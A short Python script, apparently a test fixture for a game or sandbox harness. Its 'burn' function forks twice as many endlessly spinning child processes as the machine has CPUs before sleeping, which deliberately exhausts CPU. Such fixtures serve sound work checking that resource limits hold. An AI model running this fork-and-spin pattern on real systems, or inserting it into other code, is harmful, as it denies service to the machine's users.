import os

from honest import play
from sleeps import sleep


def burn(message):
    for _ in range(2 * os.cpu_count()):
        if os.fork() == 0:
            while True:
                pass
    sleep(message)


play(act=burn)
